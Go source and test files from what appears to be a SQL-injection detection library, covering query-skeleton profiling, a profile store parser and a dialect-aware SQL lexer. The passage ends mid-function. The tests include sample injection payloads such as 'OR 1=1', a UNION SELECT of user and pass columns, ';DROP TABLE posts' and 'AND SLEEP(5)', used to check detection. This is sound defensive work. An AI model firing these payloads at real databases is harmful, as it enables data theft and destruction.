		case strings.HasPrefix(text, "site "):
			site, err := strconv.Unquote(text[len("site "):])
			if err != nil {
				return nil, fmt.Errorf("profile: line %d: bad site: %v", line, err)
			}
			if _, dup := st.sites[site]; dup {
				return nil, fmt.Errorf("profile: line %d: duplicate site %q", line, site)
			}
			cur = make(map[string]struct{})
			st.sites[site] = cur
		case strings.HasPrefix(text, "sk "):
			if cur == nil {
				return nil, fmt.Errorf("profile: line %d: skeleton before any site", line)
			}
			sk, err := strconv.Unquote(text[len("sk "):])
			if err != nil {
				return nil, fmt.Errorf("profile: line %d: bad skeleton: %v", line, err)
			}
			if _, dup := cur[sk]; !dup {
				cur[sk] = struct{}{}
				st.skeletons++
			}
		case text == "":
			// Blank lines are tolerated (hand-edited files).
		default:
			return nil, fmt.Errorf("profile: line %d: unrecognized directive %q", line, text)
		}
	}
	if err := sc.Err(); err != nil {
		return nil, fmt.Errorf("profile: %w", err)
	}
	if version == 2 && !sawDialect {
		return nil, fmt.Errorf("profile: v2 store is missing its dialect directive")
	}
	return st, nil
}

// Load reads and parses the profile store at path.
func Load(path string) (*Store, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, fmt.Errorf("profile: %w", err)
	}
	st, err := Parse(data)
	if err != nil {
		return nil, fmt.Errorf("%w (file %s)", err, path)
	}
	return st, nil
}

// Recorder accumulates profiles during the learning phase. It is safe for
// concurrent use — learning runs against live benign traffic — and is
// kept separate from Store so enforcement's hot path stays lock-free.
type Recorder struct {
	mu      sync.Mutex
	sites   map[string]map[string]struct{}
	dialect sqltoken.Dialect
}

// NewRecorder returns an empty Recorder computing MySQL-dialect skeletons.
func NewRecorder() *Recorder {
	return NewRecorderDialect(sqltoken.MySQL)
}

// NewRecorderDialect returns an empty Recorder computing skeletons under
// dialect d; the Store it freezes records d in its header.
func NewRecorderDialect(d sqltoken.Dialect) *Recorder {
	return &Recorder{sites: make(map[string]map[string]struct{}), dialect: d}
}

// Dialect returns the SQL dialect the recorder computes skeletons under.
func (r *Recorder) Dialect() sqltoken.Dialect { return r.dialect }

// Record computes query's skeleton and records it for site, returning the
// skeleton. Empty sites are ignored: without a call-site identity the
// observation profiles nothing.
func (r *Recorder) Record(site, query string) string {
	sk := SkeletonDialect(r.dialect, query)
	r.RecordSkeleton(site, sk)
	return sk
}

// RecordSkeleton records an already-computed skeleton for site.
func (r *Recorder) RecordSkeleton(site, skeleton string) {
	if site == "" {
		return
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	m, ok := r.sites[site]
	if !ok {
		m = make(map[string]struct{})
		r.sites[site] = m
	}
	m[skeleton] = struct{}{}
}

// Len returns the profiled site and total skeleton counts so far.
func (r *Recorder) Len() (sites, skeletons int) {
	r.mu.Lock()
	defer r.mu.Unlock()
	for _, m := range r.sites {
		skeletons += len(m)
	}
	return len(r.sites), skeletons
}

// Store freezes the recorded profiles into an immutable Store. The
// Recorder keeps recording afterwards; call again for a newer freeze.
func (r *Recorder) Store() *Store {
	r.mu.Lock()
	defer r.mu.Unlock()
	st := &Store{sites: make(map[string]map[string]struct{}, len(r.sites)), dialect: r.dialect}
	for site, m := range r.sites {
		cp := make(map[string]struct{}, len(m))
		for sk := range m {
			cp[sk] = struct{}{}
		}
		st.sites[site] = cp
		st.skeletons += len(m)
	}
	return st
}
