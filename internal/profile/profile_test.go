package profile

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
)

func TestSkeletonFoldsLiterals(t *testing.T) {
	// Benign parameter drift must land on one skeleton.
	groups := [][]string{
		{
			"SELECT * FROM posts WHERE id=5",
			"SELECT * FROM posts WHERE id=123456",
			"select * from posts where ID = 7",
			"SELECT  *  FROM  posts\n WHERE id =\t0x1f",
			"SELECT * FROM posts WHERE id=?",
			"SELECT * FROM posts WHERE id=:id",
		},
		{
			"SELECT name FROM users WHERE login='alice'",
			"SELECT name FROM users WHERE login='bob the builder'",
			`SELECT name FROM users WHERE login="quoted differently"`,
			"SELECT name FROM users WHERE login='it''s escaped'",
		},
	}
	for gi, group := range groups {
		want := Skeleton(group[0])
		if want == "" {
			t.Fatalf("group %d: empty skeleton for %q", gi, group[0])
		}
		for _, q := range group[1:] {
			if got := Skeleton(q); got != want {
				t.Errorf("group %d: Skeleton(%q) = %q, want %q (from %q)", gi, q, got, want, group[0])
			}
		}
	}
}

func TestSkeletonSeparatesStructure(t *testing.T) {
	base := "SELECT * FROM posts WHERE id=5"
	variants := []string{
		"SELECT * FROM posts WHERE id=5 OR 1=1",
		"SELECT * FROM posts WHERE id=5 UNION SELECT user,pass FROM users",
		"SELECT * FROM posts WHERE id=5 -- trailing",
		"SELECT * FROM posts WHERE id=5;DROP TABLE posts",
		"SELECT * FROM posts",
		"SELECT * FROM posts WHERE id=5 AND SLEEP(5)",
	}
	want := Skeleton(base)
	for _, q := range variants {
		if got := Skeleton(q); got == want {
			t.Errorf("Skeleton(%q) collides with benign skeleton %q", q, want)
		}
	}
}

func TestSkeletonInListFolding(t *testing.T) {
	a := Skeleton("SELECT * FROM t WHERE id IN (1)")
	b := Skeleton("SELECT * FROM t WHERE id IN (1, 2, 3)")
	c := Skeleton("SELECT * FROM t WHERE name IN ('x','y')")
	d := Skeleton("SELECT * FROM t WHERE name IN ('x')")
	if a != b {
		t.Errorf("IN-list length drift fragments the skeleton: %q vs %q", a, b)
	}
	if c != d {
		t.Errorf("string IN-list length drift fragments the skeleton: %q vs %q", c, d)
	}
	// A subquery or expression inside IN is structure and must not fold.
	sub := Skeleton("SELECT * FROM t WHERE id IN (SELECT id FROM u)")
	if sub == a {
		t.Errorf("IN (subquery) folded to the literal-list skeleton %q", a)
	}
	expr := Skeleton("SELECT * FROM t WHERE id IN (1+1)")
	if expr == a {
		t.Errorf("IN (expression) folded to the literal-list skeleton %q", a)
	}
	// Mixed literal kinds still fold: both are folded literal markers.
	if got := Skeleton("SELECT * FROM t WHERE id IN (1,'x',2)"); !strings.Contains(got, "IN ( ? )") {
		t.Errorf("mixed literal IN-list did not fold: %q", got)
	}
	// Empty parens are not a literal list.
	if got := Skeleton("SELECT * FROM t WHERE id IN ()"); strings.Contains(got, "IN ( ? )") {
		t.Errorf("empty IN () must not fold: %q", got)
	}
}

func TestSkeletonAliasFolding(t *testing.T) {
	a := Skeleton("SELECT count(*) AS total FROM t")
	b := Skeleton("SELECT COUNT(*) as n FROM t")
	if a != b {
		t.Errorf("AS-alias drift fragments the skeleton: %q vs %q", a, b)
	}
	// Without AS the identifier is structure (it may be a column reference).
	if x, y := Skeleton("SELECT a FROM t"), Skeleton("SELECT b FROM t"); x == y {
		t.Errorf("distinct selected columns folded together: %q", x)
	}
}

func TestSkeletonComments(t *testing.T) {
	a := Skeleton("SELECT 1 /* hint A */")
	b := Skeleton("SELECT 1 /* completely different text */")
	if a != b {
		t.Errorf("comment text leaked into the skeleton: %q vs %q", a, b)
	}
	if plain := Skeleton("SELECT 1"); plain == a {
		t.Errorf("comment presence did not change the skeleton: %q", plain)
	}
}

func TestSkeletonEmpty(t *testing.T) {
	if got := Skeleton(""); got != "" {
		t.Errorf("Skeleton(\"\") = %q, want \"\"", got)
	}
	if got := Skeleton("   \t\n"); got != "" {
		t.Errorf("Skeleton(whitespace) = %q, want \"\"", got)
	}
}

func TestStoreRoundTrip(t *testing.T) {
	rec := NewRecorder()
	rec.Record("plugin:posts", "SELECT * FROM posts WHERE id=5")
	rec.Record("plugin:posts", "SELECT * FROM posts WHERE id=99") // same skeleton
	rec.Record("plugin:posts", "SELECT title FROM posts ORDER BY date DESC")
	rec.Record("plugin:login", "SELECT pass FROM users WHERE login='alice'")
	rec.Record(`plugin:"odd name"`, "SELECT 1") // quoting must survive

	st := rec.Store()
	if st.Sites() != 3 {
		t.Fatalf("Sites() = %d, want 3", st.Sites())
	}
	if st.Skeletons() != 4 {
		t.Fatalf("Skeletons() = %d, want 4", st.Skeletons())
	}

	first := st.Bytes()
	parsed, err := Parse(first)
	if err != nil {
		t.Fatalf("Parse(own serialization): %v", err)
	}
	second := parsed.Bytes()
	if !bytes.Equal(first, second) {
		t.Errorf("serialize->parse->serialize is not bit-identical:\n%q\nvs\n%q", first, second)
	}
	if parsed.Sites() != st.Sites() || parsed.Skeletons() != st.Skeletons() {
		t.Errorf("parsed counts (%d, %d) != original (%d, %d)",
			parsed.Sites(), parsed.Skeletons(), st.Sites(), st.Skeletons())
	}

	sk := Skeleton("SELECT * FROM posts WHERE id=777")
	if got := parsed.Lookup("plugin:posts", sk); got != SkeletonSeen {
		t.Errorf("Lookup(known skeleton) = %v, want SkeletonSeen", got)
	}
	if got := parsed.Lookup("plugin:posts", Skeleton("SELECT * FROM posts WHERE id=5 OR 1=1")); got != SkeletonUnseen {
		t.Errorf("Lookup(injected skeleton) = %v, want SkeletonUnseen", got)
	}
	if got := parsed.Lookup("plugin:never-trained", sk); got != SiteUnknown {
		t.Errorf("Lookup(unknown site) = %v, want SiteUnknown", got)
	}
}

func TestStoreNil(t *testing.T) {
	var s *Store
	if got := s.Lookup("any", "any"); got != SiteUnknown {
		t.Errorf("nil store Lookup = %v, want SiteUnknown", got)
	}
	if s.Sites() != 0 || s.Skeletons() != 0 {
		t.Errorf("nil store counts = (%d, %d), want (0, 0)", s.Sites(), s.Skeletons())
	}
	// The empty serialization is just the header line and parses back.
	if _, err := Parse(s.Bytes()); err != nil {
		t.Errorf("Parse(nil store serialization): %v", err)
	}
}

func TestParseErrors(t *testing.T) {
	cases := []struct {
		name string
		in   string
	}{
		{"empty", ""},
		{"bad header", "joza-profile v999\n"},
		{"no header", `site "a"` + "\n"},
		{"sk before site", Header + "\n" + `sk "x"` + "\n"},
		{"bad site quoting", Header + "\nsite unquoted\n"},
		{"bad sk quoting", Header + "\n" + `site "a"` + "\nsk unquoted\n"},
		{"garbage line", Header + "\n" + `site "a"` + "\nwat\n"},
		{"duplicate site", Header + "\n" + `site "a"` + "\n" + `site "a"` + "\n"},
	}
	for _, tc := range cases {
		if _, err := Parse([]byte(tc.in)); err == nil {
			t.Errorf("%s: Parse accepted corrupt input %q", tc.name, tc.in)
		}
	}
}

func TestParseToleratesBlankLines(t *testing.T) {
	in := Header + "\n\n" + `site "a"` + "\n\n" + `sk "SELECT 1"` + "\n\n"
	st, err := Parse([]byte(in))
	if err != nil {
		t.Fatalf("Parse: %v", err)
	}
	if st.Sites() != 1 || st.Skeletons() != 1 {
		t.Errorf("counts = (%d, %d), want (1, 1)", st.Sites(), st.Skeletons())
	}
}

func TestLoad(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "profiles")
	rec := NewRecorder()
	rec.Record("site", "SELECT 1")
	if err := os.WriteFile(path, rec.Store().Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	st, err := Load(path)
	if err != nil {
		t.Fatalf("Load: %v", err)
	}
	if st.Sites() != 1 {
		t.Errorf("Sites() = %d, want 1", st.Sites())
	}
	if _, err := Load(filepath.Join(dir, "missing")); err == nil {
		t.Error("Load(missing file) succeeded")
	}
	if err := os.WriteFile(path, []byte("not a profile\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := Load(path); err == nil {
		t.Error("Load(corrupt file) succeeded")
	}
}

func TestRecorderIgnoresEmptySite(t *testing.T) {
	rec := NewRecorder()
	rec.Record("", "SELECT 1")
	rec.RecordSkeleton("", "SELECT ?")
	if sites, sks := rec.Len(); sites != 0 || sks != 0 {
		t.Errorf("Len() = (%d, %d), want (0, 0)", sites, sks)
	}
}

func TestRecorderStoreIsFrozen(t *testing.T) {
	rec := NewRecorder()
	rec.Record("a", "SELECT 1")
	st := rec.Store()
	rec.Record("a", "SELECT name FROM t")
	rec.Record("b", "SELECT 3")
	if st.Sites() != 1 || st.Skeletons() != 1 {
		t.Errorf("frozen store grew: (%d, %d), want (1, 1)", st.Sites(), st.Skeletons())
	}
	if got := st.Lookup("a", Skeleton("SELECT name FROM t")); got != SkeletonUnseen {
		t.Errorf("frozen store sees post-freeze skeleton: %v", got)
	}
}

func TestRecorderConcurrent(t *testing.T) {
	rec := NewRecorder()
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < 100; i++ {
				rec.Record(fmt.Sprintf("site%d", g%4), fmt.Sprintf("SELECT %d FROM t%d", i, i%10))
				if i%10 == 0 {
					_ = rec.Store()
					_, _ = rec.Len()
				}
			}
		}(g)
	}
	wg.Wait()
	if sites, _ := rec.Len(); sites != 4 {
		t.Errorf("Len() sites = %d, want 4", sites)
	}
}
