// Package profile implements the third analyzer stage of the hybrid:
// per-call-site query-skeleton profiles in the SQLBlock style ("You shall
// not pass"). A learning phase records, for every database call site, the
// normalized skeleton of each query the site legitimately issues; in
// enforcement a query whose skeleton was never seen from its call site is
// flagged, closing the hybrid's residual blind spot — short payloads
// rebuilt entirely from trusted fragments that also survive approximate
// input matching, and second-order attacks whose payload never appears in
// the current request's inputs.
//
// The skeleton normalization is deliberately more aggressive than
// sqlparse.StructureKey (whose byte-exactness is a soundness requirement
// of the PTI query-structure cache): literals fold to a single marker,
// whitespace between tokens carries no weight, keyword and identifier
// case folds, AS-aliases fold, and homogeneous IN-lists of literals fold
// to one element — so benign parameter drift (different ids, different
// list lengths, reformatted queries) lands on one skeleton, while any
// structural change an injection causes (an extra OR term, a UNION arm, a
// comment, a truncated WHERE) lands on a new one.
package profile

import (
	"strings"

	"joza/internal/sqltoken"
)

// Literal markers emitted by Skeleton. A number or placeholder folds to
// Value; a string literal folds to StringValue regardless of its quoting
// or content.
const (
	valueMarker  = "?"
	stringMarker = "'?'"
	// commentMarker stands in for any comment token: comments are
	// structure (an injected `-- ` changes the skeleton) but their text is
	// attacker-controlled noise.
	commentMarker = "/*?*/"
)

// Skeleton returns the profile skeleton of a query under the MySQL
// dialect: a deterministic, whitespace- and literal-insensitive rendering
// of its token structure. It never fails; unlexable bytes pass through as
// their own tokens. The empty query yields the empty skeleton.
func Skeleton(query string) string {
	return SkeletonDialect(sqltoken.MySQL, query)
}

// SkeletonDialect is Skeleton tokenized under dialect d. Skeletons from
// different dialects are not comparable — the same bytes can fold
// differently (a dollar-quoted body is one string marker in Postgres and
// live tokens in MySQL) — which is why the store header records the
// dialect it was trained under.
func SkeletonDialect(d sqltoken.Dialect, query string) string {
	toks := d.Lex(query)
	if len(toks) == 0 {
		return ""
	}
	parts := make([]string, 0, len(toks))
	prevKeyword := "" // upper-cased text of the previous keyword token
	for _, t := range toks {
		var p string
		switch t.Kind {
		case sqltoken.KindNumber, sqltoken.KindPlaceholder:
			p = valueMarker
		case sqltoken.KindString:
			p = stringMarker
		case sqltoken.KindComment:
			p = commentMarker
		case sqltoken.KindKeyword, sqltoken.KindFunction:
			p = strings.ToUpper(t.Text)
		case sqltoken.KindIdent, sqltoken.KindBacktick, sqltoken.KindVariable:
			if prevKeyword == "AS" {
				// Alias folding: the name after AS is presentation, not
				// structure — SELECT a AS x and SELECT a AS y are one
				// skeleton.
				p = valueMarker
			} else {
				p = strings.ToUpper(t.Text)
			}
		default:
			p = t.Text
		}
		if t.Kind == sqltoken.KindKeyword {
			prevKeyword = strings.ToUpper(t.Text)
		} else {
			prevKeyword = ""
		}
		parts = append(parts, p)
	}
	parts = foldInLists(parts)
	return strings.Join(parts, " ")
}

// foldInLists rewrites every `IN ( lit , lit , ... )` run — where each
// element is a folded literal marker — to `IN ( ? )`, so benign IN-list
// length drift does not fragment profiles. Lists containing anything but
// literal markers and commas (subqueries, expressions) are left intact:
// those are structure.
func foldInLists(parts []string) []string {
	out := parts[:0]
	for i := 0; i < len(parts); i++ {
		out = append(out, parts[i])
		if parts[i] != "IN" || i+1 >= len(parts) || parts[i+1] != "(" {
			continue
		}
		// Scan the parenthesized run: literals separated by commas, closed
		// by ")". Anything else aborts the fold.
		j := i + 2
		elems := 0
		expectElem := true
		for ; j < len(parts); j++ {
			p := parts[j]
			if expectElem {
				if p != valueMarker && p != stringMarker {
					break
				}
				elems++
				expectElem = false
				continue
			}
			if p == ")" {
				break
			}
			if p != "," {
				break
			}
			expectElem = true
		}
		if j < len(parts) && parts[j] == ")" && elems > 0 && !expectElem {
			out = append(out, "(", valueMarker, ")")
			i = j
		}
	}
	return out
}
