package profile

import (
	"bytes"
	"strings"
	"testing"

	"joza/internal/sqltoken"
)

// FuzzSkeletonNormalize asserts the invariants enforcement relies on:
// Skeleton never panics, is deterministic, and is stable under the benign
// mutations it exists to absorb — added whitespace and changed numeric
// literals — so profile lookups cannot fragment on parameter drift.
func FuzzSkeletonNormalize(f *testing.F) {
	f.Add("SELECT * FROM posts WHERE id=5")
	f.Add("SELECT name FROM users WHERE login='alice' AND pass=MD5('x')")
	f.Add("SELECT * FROM t WHERE id IN (1, 2, 3) -- trailing")
	f.Add("INSERT INTO logs (msg) VALUES ('a'), ('b')")
	f.Add("SELECT 1 /* unterminated")
	f.Add("'lone string")
	f.Add("`backtick")
	f.Add("")
	f.Add("\x00\xff weird bytes 0x1f")
	f.Fuzz(func(t *testing.T, query string) {
		sk := Skeleton(query)
		if again := Skeleton(query); again != sk {
			t.Fatalf("non-deterministic: %q then %q for %q", sk, again, query)
		}
		// Leading whitespace never reaches a token.
		if got := Skeleton(" \t\n" + query); got != sk {
			t.Fatalf("leading whitespace changed skeleton: %q vs %q for %q", got, sk, query)
		}
		// Widening existing inter-token gaps (which are whitespace by
		// construction) must not change the skeleton.
		if wider := widenGaps(query); wider != query {
			if got := Skeleton(wider); got != sk {
				t.Fatalf("gap widening changed skeleton: %q vs %q for %q -> %q", got, sk, query, wider)
			}
		}
		// Replacing a plain integer literal with other digits of the same
		// length keeps lexing identical around it; the skeleton must fold
		// both to the same marker.
		if mutated := mutateIntegers(query); mutated != query {
			if got := Skeleton(mutated); got != sk {
				t.Fatalf("integer mutation changed skeleton: %q vs %q for %q -> %q", got, sk, query, mutated)
			}
		}
	})
}

// widenGaps inserts one extra space into every non-empty gap between
// consecutive tokens. Gaps contain only whitespace (the lexer consumes
// everything else), so this is a pure whitespace mutation.
func widenGaps(query string) string {
	toks := sqltoken.Lex(query)
	if len(toks) < 2 {
		return query
	}
	var sb strings.Builder
	prevEnd := 0
	for i, t := range toks {
		if i > 0 && t.Start > prevEnd {
			sb.WriteString(query[prevEnd:t.Start])
			sb.WriteByte(' ')
		} else {
			sb.WriteString(query[prevEnd:t.Start])
		}
		sb.WriteString(query[t.Start:t.End])
		prevEnd = t.End
	}
	sb.WriteString(query[prevEnd:])
	return sb.String()
}

// mutateIntegers rewrites every all-digit number token to a same-length run
// of a different digit. Same length and pure digits guarantee the mutant
// lexes to the same token sequence.
func mutateIntegers(query string) string {
	toks := sqltoken.Lex(query)
	var sb strings.Builder
	prevEnd := 0
	changed := false
	for _, t := range toks {
		sb.WriteString(query[prevEnd:t.Start])
		text := query[t.Start:t.End]
		if t.Kind == sqltoken.KindNumber && allDigits(text) {
			repl := byte('7')
			if text[0] == '7' {
				repl = '3'
			}
			sb.WriteString(strings.Repeat(string(repl), len(text)))
			changed = true
		} else {
			sb.WriteString(text)
		}
		prevEnd = t.End
	}
	sb.WriteString(query[prevEnd:])
	if !changed {
		return query
	}
	return sb.String()
}

func allDigits(s string) bool {
	if s == "" {
		return false
	}
	for i := 0; i < len(s); i++ {
		if s[i] < '0' || s[i] > '9' {
			return false
		}
	}
	return true
}

// FuzzProfileStore asserts the serialized format round-trips: any input
// Parse accepts must serialize to a canonical form that parses back to the
// same store, and that canonical form is a fixpoint (bit-identical on a
// second pass). Parse must never panic on arbitrary bytes.
func FuzzProfileStore(f *testing.F) {
	rec := NewRecorder()
	rec.Record("plugin:posts", "SELECT * FROM posts WHERE id=5")
	rec.Record("plugin:login", "SELECT pass FROM users WHERE login='a'")
	f.Add(rec.Store().Bytes())
	f.Add([]byte(Header + "\n"))
	f.Add([]byte(Header + "\n" + `site "a"` + "\n" + `sk "SELECT ?"` + "\n"))
	f.Add([]byte("garbage"))
	f.Add([]byte{})
	f.Fuzz(func(t *testing.T, data []byte) {
		st, err := Parse(data)
		if err != nil {
			return // rejected input: only the no-panic property applies
		}
		canon := st.Bytes()
		st2, err := Parse(canon)
		if err != nil {
			t.Fatalf("canonical form does not parse: %v\n%q", err, canon)
		}
		if st2.Sites() != st.Sites() || st2.Skeletons() != st.Skeletons() {
			t.Fatalf("round trip changed counts: (%d, %d) -> (%d, %d)",
				st.Sites(), st.Skeletons(), st2.Sites(), st2.Skeletons())
		}
		if again := st2.Bytes(); !bytes.Equal(canon, again) {
			t.Fatalf("canonical form is not a fixpoint:\n%q\nvs\n%q", canon, again)
		}
	})
}
