package sqltoken

import (
	"fmt"
	"strings"
)

// Dialect selects the SQL grammar family the lexer applies: quote and
// escape semantics, placeholder syntax, comment rules and the
// keyword/function vocabulary. The zero value is MySQL, so every API that
// predates dialects — Lex, IsKeyword, ContainsSQLToken — keeps its exact
// historical behavior.
//
// Dialect differences are not cosmetic for an injection defense: a guard
// that tokenizes Postgres traffic with MySQL rules mis-draws the
// string/code boundary (backslash escapes, `"` strings, `#` comments,
// missing dollar-quoting), which is precisely the syntax-confusion evasion
// class. See the testbed dialect-evasion row for concrete payloads.
type Dialect int

// Supported dialects. MySQL is the zero value and the default everywhere.
const (
	MySQL Dialect = iota
	Postgres
	SQLite
	numDialects // sentinel, keep last
)

// String returns the canonical lower-case name used on the daemon wire,
// in profile-store headers and in command-line flags.
func (d Dialect) String() string {
	switch d {
	case MySQL:
		return "mysql"
	case Postgres:
		return "postgres"
	case SQLite:
		return "sqlite"
	default:
		return fmt.Sprintf("dialect(%d)", int(d))
	}
}

// Valid reports whether d is one of the supported dialect values.
func (d Dialect) Valid() bool { return d >= MySQL && d < numDialects }

// ParseDialect maps a dialect name to its Dialect value. It accepts the
// canonical names ("mysql", "postgres", "sqlite") plus common aliases.
// The empty string is NOT accepted here: wire and file-format layers that
// treat "absent" as MySQL must apply that default before calling.
func ParseDialect(s string) (Dialect, error) {
	switch s {
	case "mysql", "mariadb":
		return MySQL, nil
	case "postgres", "postgresql", "pg":
		return Postgres, nil
	case "sqlite", "sqlite3":
		return SQLite, nil
	default:
		return MySQL, fmt.Errorf("unknown SQL dialect %q (want mysql, postgres or sqlite)", s)
	}
}

// Dialects returns all supported dialects, for differential tests and
// fuzzing loops.
func Dialects() []Dialect { return []Dialect{MySQL, Postgres, SQLite} }

// dialectSpec is the complete lexical rule set for one dialect. The lexer
// consults it through one pointer indirection, so dialect dispatch adds no
// per-token branching beyond what the shared byte switch already does.
type dialectSpec struct {
	name string

	// Quote and escape semantics.
	doubleQuoteIdent bool // `"` opens a quoted identifier, not a string
	backslashEscapes bool // backslash escapes inside '…' (and "…" strings)
	backtickIdent    bool // `…` opens a quoted identifier
	eStrings         bool // E'…' is a backslash-escaped string literal
	dollarQuote      bool // $tag$…$tag$ dollar-quoted strings

	// Placeholder syntax.
	questionPlaceholder bool // ? positional placeholder
	questionNumber      bool // ?NNN numbered placeholder (SQLite)
	colonPlaceholder    bool // :name named placeholder
	dollarNumber        bool // $1 numbered placeholder (Postgres)
	dollarName          bool // $name named placeholder (SQLite)
	dollarIdentStart    bool // '$' may start an unquoted identifier (MySQL)

	// Comment rules.
	hashComment        bool // '#' starts a line comment
	hashOperator       bool // '#' is an operator (Postgres bitwise XOR)
	dashDashNeedsSpace bool // '--' starts a comment only before whitespace/EOF
	nestedBlockComment bool // /* … /* … */ … */ nests (Postgres)

	// Variable / operator odds and ends.
	atVariable    bool // @name and @@name session variables (MySQL)
	atPlaceholder bool // @name named placeholder (SQLite)
	colonOperator bool // a bare ':' is an operator (Postgres array slices)
	atOperator    bool // a bare '@' is an operator (Postgres absolute value)

	keywords  map[string]bool
	functions map[string]bool
}

// specs is indexed by Dialect. Out-of-range values clamp to MySQL in
// spec(), keeping Lex total on arbitrary (corrupt) Dialect ints.
var specs = [numDialects]dialectSpec{
	MySQL: {
		name:                "mysql",
		backslashEscapes:    true,
		backtickIdent:       true,
		questionPlaceholder: true,
		colonPlaceholder:    true,
		dollarIdentStart:    true,
		hashComment:         true,
		dashDashNeedsSpace:  true,
		atVariable:          true,
		keywords:            mysqlKeywords,
		functions:           mysqlFunctions,
	},
	Postgres: {
		name:             "postgres",
		doubleQuoteIdent: true,
		eStrings:         true,
		dollarQuote:      true,
		dollarNumber:     true,
		hashOperator:     true,
		// standard_conforming_strings=on: backslash is a plain byte, only
		// a doubled quote escapes inside '…'.
		nestedBlockComment: true,
		colonOperator:      true,
		atOperator:         true,
		keywords:           postgresKeywords,
		functions:          postgresFunctions,
	},
	SQLite: {
		name:                "sqlite",
		doubleQuoteIdent:    true,
		backtickIdent:       true, // MySQL-compat quoting SQLite accepts
		questionPlaceholder: true,
		questionNumber:      true,
		colonPlaceholder:    true,
		dollarName:          true,
		atPlaceholder:       true,
		keywords:            sqliteKeywords,
		functions:           sqliteFunctions,
	},
}

func (d Dialect) spec() *dialectSpec {
	if !d.Valid() {
		d = MySQL
	}
	return &specs[d]
}

// Lex tokenizes query under dialect d. Like Lex, it never fails: malformed
// input produces Unterminated or KindInvalid tokens, because a defense must
// be able to reason about queries an attacker deliberately malformed.
func (d Dialect) Lex(query string) []Token {
	lx := lexer{src: query, sp: d.spec()}
	return lx.run()
}

// IsKeyword reports whether word (case-insensitive) is a keyword of d.
func (d Dialect) IsKeyword(word string) bool {
	return d.spec().keywords[strings.ToUpper(word)]
}

// IsBuiltinFunction reports whether name (case-insensitive) is a built-in
// function of d.
func (d Dialect) IsBuiltinFunction(name string) bool {
	return d.spec().functions[strings.ToUpper(name)]
}

// ContainsSQLToken reports whether s lexes under d to at least one token
// that is meaningful for fragment retention: a keyword, function, operator,
// punctuation, comment, string or quoted-identifier token.
func (d Dialect) ContainsSQLToken(s string) bool {
	for _, t := range d.Lex(s) {
		switch t.Kind {
		case KindKeyword, KindFunction, KindOperator, KindPunct, KindComment,
			KindString, KindBacktick:
			return true
		}
	}
	return false
}
