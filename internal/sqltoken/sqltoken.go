// Package sqltoken implements a dialect-aware SQL lexer that tokenizes
// query strings into position-annotated tokens and classifies each token
// as critical or data.
//
// The notion of a "critical token" follows the Joza paper (DSN 2015): SQL
// keywords, built-in functions, operators, delimiters and comments are
// critical; identifiers, numbers and string-literal contents are data. The
// threat model deliberately permits field and table names to be supplied by
// user input, so plain identifiers are never critical.
//
// Lexical rules — quote and escape semantics, placeholder syntax, comment
// forms and the keyword/function vocabulary — are parameterized by Dialect
// (see dialect.go). The package-level functions Lex, IsKeyword,
// IsBuiltinFunction and ContainsSQLToken operate in the MySQL dialect, the
// zero value, and keep their exact pre-dialect behavior.
//
// Tokens carry byte offsets into the original query so taint-inference
// components can test whether a token is covered by a tainted or trusted span.
package sqltoken

import (
	"strings"
)

// Kind identifies the lexical class of a token.
type Kind int

// Token kinds. Keyword, Function, Operator, Punct and Comment are the
// critical kinds; the rest are data.
const (
	KindKeyword Kind = iota + 1
	KindIdent
	KindNumber
	KindString
	KindOperator
	KindPunct
	KindComment
	KindPlaceholder
	// KindBacktick is the quoted-identifier kind: `…` in MySQL and SQLite,
	// "…" in Postgres and SQLite. The name predates dialect support.
	KindBacktick
	KindFunction
	KindVariable
	KindInvalid
)

var kindNames = map[Kind]string{
	KindKeyword:     "keyword",
	KindIdent:       "ident",
	KindNumber:      "number",
	KindString:      "string",
	KindOperator:    "operator",
	KindPunct:       "punct",
	KindComment:     "comment",
	KindPlaceholder: "placeholder",
	KindBacktick:    "backtick",
	KindFunction:    "function",
	KindVariable:    "variable",
	KindInvalid:     "invalid",
}

// String returns a human-readable name for the kind.
func (k Kind) String() string {
	if s, ok := kindNames[k]; ok {
		return s
	}
	return "unknown"
}

// Span is a half-open byte range [Start, End) within a query string.
type Span struct {
	Start int
	End   int
}

// Len returns the number of bytes covered by the span.
func (s Span) Len() int { return s.End - s.Start }

// Contains reports whether the span fully contains other.
func (s Span) Contains(other Span) bool {
	return s.Start <= other.Start && other.End <= s.End
}

// Overlaps reports whether the two spans share at least one byte.
func (s Span) Overlaps(other Span) bool {
	return s.Start < other.End && other.Start < s.End
}

// Token is a single lexical token of a SQL query.
type Token struct {
	Kind Kind
	// Text is the raw source text of the token, including any quotes or
	// comment markers.
	Text string
	// Start and End are byte offsets into the query; the token occupies
	// query[Start:End].
	Start int
	End   int
	// Unterminated is set for string and block-comment tokens that reach
	// the end of input without their closing delimiter.
	Unterminated bool
}

// Span returns the byte range the token occupies.
func (t Token) Span() Span { return Span{Start: t.Start, End: t.End} }

// Critical reports whether the token is security-critical per the Joza
// model: keywords, built-in functions, operators, delimiters (punctuation)
// and comments.
func (t Token) Critical() bool {
	switch t.Kind {
	case KindKeyword, KindFunction, KindOperator, KindPunct, KindComment:
		return true
	default:
		return false
	}
}

// IsKeyword reports whether word (case-insensitive) is a SQL keyword in
// the MySQL dialect.
func IsKeyword(word string) bool {
	return MySQL.IsKeyword(word)
}

// IsBuiltinFunction reports whether name (case-insensitive) is a recognized
// built-in SQL function name in the MySQL dialect.
func IsBuiltinFunction(name string) bool {
	return MySQL.IsBuiltinFunction(name)
}

// Lex tokenizes query in the MySQL dialect. It never fails: malformed input
// produces tokens with Unterminated set or tokens of KindInvalid, because a
// defense must be able to reason about queries an attacker deliberately
// malformed. Use Dialect.Lex for other dialects.
func Lex(query string) []Token {
	return MySQL.Lex(query)
}

type lexer struct {
	src  string
	pos  int
	toks []Token
	sp   *dialectSpec
}

func (l *lexer) run() []Token {
	l.toks = make([]Token, 0, len(l.src)/4+4)
	for l.pos < len(l.src) {
		c := l.src[l.pos]
		switch {
		case isSpaceByte(c):
			l.pos++
		case c == '\'':
			l.lexString(l.pos, '\'', l.sp.backslashEscapes)
		case c == '"':
